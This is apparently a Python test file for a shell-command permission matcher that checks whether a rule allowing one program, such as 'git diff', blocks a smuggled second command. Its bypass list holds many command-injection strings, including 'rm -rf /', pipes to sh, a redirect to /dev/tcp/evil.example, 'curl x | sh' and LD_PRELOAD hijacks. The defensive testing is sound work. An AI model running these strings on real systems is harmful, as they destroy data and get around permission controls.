"""Shell commands: a line for one program never lets a second one through (GT-9)."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from approvals.scope.matching import Action, Placed, Ruling, decide
from approvals.scope.shell import MAX_COMMAND, MAX_PARTS
from approvals.vocabulary import Field
from tests.scope.scopes import ask, ruling, scope

ONE_PROGRAM = scope(tools="Bash(git diff *)\nBash(find *)")

BYPASSES = [
    "git diff; rm -rf /",
    "git diff;rm x",
    "git diff && rm x",
    "git diff || rm x",
    "git diff | sh",
    "git diff |& sh",
    "git diff & rm x",
    "git diff\nrm x",
    "git diff\n\\\nrm x",
    "git diff \\\n; rm x",
    "git diff\rrm x",
    "git diff\x00rm x",
    "git diff\u2028rm x",
    "git diff\u00a0HEAD",
    "git diff\u200b",
    "git diff\x0brm x",
    "git diff $(rm x)",
    'git diff "$(rm x)"',
    "git diff `rm x`",
    'git diff "`rm x`"',
    "git diff `echo \\`rm x\\``",
    "git diff <(rm x)",
    "git diff >(rm x)",
    "git diff>(rm x)",
    "git diff ${x:-$(rm x)}",
    "git diff ${x@P}",
    "git diff $((a[$(rm x)]))",
    "git diff $[a[0]]",
    "git diff > f",
    "git diff >> f",
    "git diff >| f",
    "git diff &> f",
    "git diff >& f",
    "git diff 2> f",
    "git diff > $HOME/f",
    "git diff > ../f",
    "git diff < f",
    "git diff <> f",
    "git diff > /dev/tcp/evil.example/80",
    "git diff --output=f",
    "git diff --outp f",
    "git diff --ext-diff",
    "git -c alias.diff=!rm diff",
    "X=1 git diff",
    "PATH=/tmp git diff",
    "LD_PRELOAD=x.so git diff",
    "GIT_EXTERNAL_DIFF=rm git diff",
    "CI=$(rm x) git diff",
    "PATH=/tmp; git diff",
    "export PATH=/tmp; git diff",
    "git() { rm x; }; git diff",
    "function git { rm x; }; git diff",
    "alias git=rm; git diff",
    "for f in *; do git diff; done",
    "while git diff; do git diff; done",
    "if git diff; then rm x; fi",
    "[[ -v a[$(rm)] ]]",
    "[ -v 'a[$(rm x)]' ]",
    "eval git diff",
    "exec git diff",
    "source git diff",
    ". git diff",
    "env git diff",
    "env -S 'git diff'",
    "sudo git diff",
    "xargs -I{} git diff",
    "echo x | xargs rm",
    "watch git diff",
    "setsid git diff",
    "flock f git diff",
    "ionice git diff",
    "coproc git diff",
    "timeout 5 rm x",
    "timeout -x 5 git diff",
    "nohup rm x",
    "nice -n 5 rm x",
    "stdbuf -oL rm x",
    "time -o f git diff",
    "command -v rm",
    "builtin eval rm",
    "find . -exec rm {} +",
    "find . -exec rm {} \\;",
    "find . -execdir rm {} +",
    "find . -ok rm {} +",
    "find . -okdir rm {} +",
    "find . -delete",
    "find . -fprint f",
    "find . -fprintf f x",
    "find . -fls f",
    'find . -ex"ec" rm {} +',
    "find . -e\\xec rm {} +",
    "find . $'-delete'",
    "find . $X",
    "find . $(echo -delete)",
    "find . -{delete,print}",
    "find *",
    "echo -delete | xargs find .",
    "$X diff",
    "$(echo git) diff",
    "{git,diff}",
    "g?t diff",
    "~/git diff",
    "./git diff",
    "/tmp/git diff",
    '"git" diff',
    "gi\\t diff",
    "gi\\\nt diff",
    "git difftool",
    "git  difftool",
    "GIT diff",
    "ｇｉｔ diff",
    "cat <<E\nx\nE\nrm x",
    "git diff <<E\n$(rm x)\nE",
    "git diff <<'E'\nx\nE\nrm x",
    "git diff <<A <<B\nA\nB\nrm x",
    "git diff # x\nrm x",
    "git diff # for \\\n-x2>&1",
    "{};git diff",
    "git diff 'unclosed",
    "git diff )",
    "git diff ;;",
    "(git diff; rm x)",
    "{ git diff; rm x; }",
    "! rm x",
    "",
    "   ",
    "# nothing",
]


@pytest.mark.parametrize("command", BYPASSES)
def test_a_line_for_one_program_never_allows_this(command: str) -> None:
    outcome = decide(ONE_PROGRAM, Action("Bash", command))
    assert outcome.ruling in (Ruling.NO_LINE, Ruling.UNREADABLE)
    assert outcome.reason.endswith(".")


@pytest.mark.parametrize(
    "command",
    [
        "git diff",
        "git diff HEAD",
        "git  diff\tHEAD",
        "git diff HEAD -- 'a b' \"c\"",
        "git diff $BASE -- src/*.py",
        "git diff | git diff -",
        "git diff 2>&1",
        "git diff > /dev/null 2>&1",
        "git diff; git diff --stat",
        "(git diff)",
        "{ git diff; }",
        "! git diff",
        "git diff &",
        "git diff # a remark",
        "git diff \\\n  HEAD",
        "git diff $(git diff --name-only)",
        "git diff <(find . -name 'x')",
        "CI=1 NO_COLOR=1 git diff",
        "timeout 5 git diff",
        "timeout -k 5 30s nice -n 5 git diff",
        "time -p git diff",
        "nohup stdbuf -oL git diff",
        "command git diff",
        "find . -name '*.py' -type f",
        "find . -name x | xargs git diff",
        "git diff <<'E'\n$(rm x)\nE\n",
    ],
)
def test_what_a_line_covers_is_allowed(command: str) -> None:
    assert ruling(ONE_PROGRAM, f"Bash({command})") == Ruling.ALLOWED


def test_find_exec_is_refused_with_the_reason() -> None:
    outcome = ask(ONE_PROGRAM, "find . -exec rm {} +")
    assert outcome.ruling == Ruling.NO_LINE
    assert "With '-exec', find can run another program" in outcome.reason
    assert str(outcome.near_misses[0].line) == "Bash(find *)"


@pytest.mark.parametrize(
    ("line", "command", "expected"),
    [
        ("Bash(ls *)", "lsof", Ruling.NO_LINE),
        ("Bash(ls*)", "lsof", Ruling.ALLOWED),
        ("Bash(ls)", "ls -l", Ruling.NO_LINE),
        ("Bash(git * --stat)", "git diff --stat", Ruling.ALLOWED),
        ("Bash(git status)", "X=1 git status", Ruling.NO_LINE),
        ("Bash(git status)", "xargs git status", Ruling.NO_LINE),
        ("Bash(* --version)", "LD_PRELOAD=x git --version", Ruling.NO_LINE),
        ("Bash(timeout *)", "timeout 5 rm x", Ruling.NO_LINE),
        ("Bash(xargs *)", "xargs rm", Ruling.NO_LINE),
        ("Bash(env *)", "env rm", Ruling.NO_LINE),
        ("Bash(find . -delete)", "find . -delete", Ruling.ALLOWED),
        ("Bash(timeout 5 git diff)", "timeout 5 git diff", Ruling.ALLOWED),
        ("Bash(git diff; rm x)", "git diff; rm x", Ruling.NO_LINE),
        ("Bash(rg *)", "rg --pre sh x", Ruling.NO_LINE),
        ("Bash(rg *)", "rg --pretty x", Ruling.ALLOWED),
        ("Bash(fd *)", "fd -Hx rm", Ruling.NO_LINE),
        ("Bash(git grep *)", "git grep -Ovim x", Ruling.NO_LINE),
        ("Bash(git log *)", "git log --oneline", Ruling.ALLOWED),
        ("Bash(sort *)", "sort -o f g", Ruling.NO_LINE),
        ("Bash", "for f in *; do rm $f; done", Ruling.ALLOWED),
        ("Bash(*)", "eval rm", Ruling.ALLOWED),
        ("Bash", "echo 'unclosed", Ruling.UNREADABLE),
        ("Bash", "git diff > f", Ruling.NO_LINE),
        ("PowerShell(Get-*)", "PowerShell(Get-Item; Remove-Item x)", Ruling.NO_LINE),
    ],
)
def test_edges_of_a_line(line: str, command: str, expected: Ruling) -> None:
    assert decide(scope(tools=line), _action(command)).ruling == expected


def _action(command: str) -> Action:
    if command.startswith("PowerShell"):
        return Action("PowerShell", command.removeprefix("PowerShell(").removesuffix(")"))
    return Action("Bash", command)


def test_limits_are_named() -> None:
    many = "; ".join(["git diff"] * (MAX_PARTS + 1))
    assert f"more than {MAX_PARTS} parts" in ask(ONE_PROGRAM, many).reason
    assert decide(ONE_PROGRAM, Action("Bash", "git diff " + "x" * MAX_COMMAND)).ruling == Ruling.UNREADABLE
    assert decide(ONE_PROGRAM, Action("Bash", "x" * 65536)).ruling == Ruling.UNREADABLE
    nested = "git diff " + "$(git diff " * 60 + ")" * 60
    assert "nested too deeply" in ask(ONE_PROGRAM, nested).reason


PROGRAMS = st.sampled_from(["rm -rf .", "evil", "sh", "curl x | sh", "$(evil)", "eval evil", "evil > f"])
GLUE = st.lists(
    st.sampled_from(
        [
            *(
                ";",
                "&",
                "&&",
                "|",
                "||",
                "|&",
                "\n",
                " ",
                "\\",
                "'",
                '"',
                "`",
                "$(",
                ")",
                "(",
                "<(",
                ">(",
                "{",
                "}",
                "#",
                "!",
            ),
            *("\\\n", "<<E\n", "\nE\n", "$'", "*", "2>&1", "\t"),
        ]
    ),
    min_size=1,
    max_size=6,
)


@settings(max_examples=500, deadline=None)
@given(GLUE, PROGRAMS)
@example(["\n", "\\\n", " "], "evil")
@example(["\\", ";"], "evil")
def test_whatever_glue_stands_between_a_second_program_is_not_run(glue: list[str], program: str) -> None:
    """Allowed only when every part is `git diff …` by itself: the second program became an argument."""
    command = f"git diff {''.join(glue)}{program}"
    outcome = decide(
        [Placed(Field.TOOLS, line.line) for line in scope(tools="Bash(git diff *)")], Action("Bash", command)
    )
    if outcome.ruling == Ruling.ALLOWED:
        assert all(part.text.startswith("git diff") for part in outcome.parts)
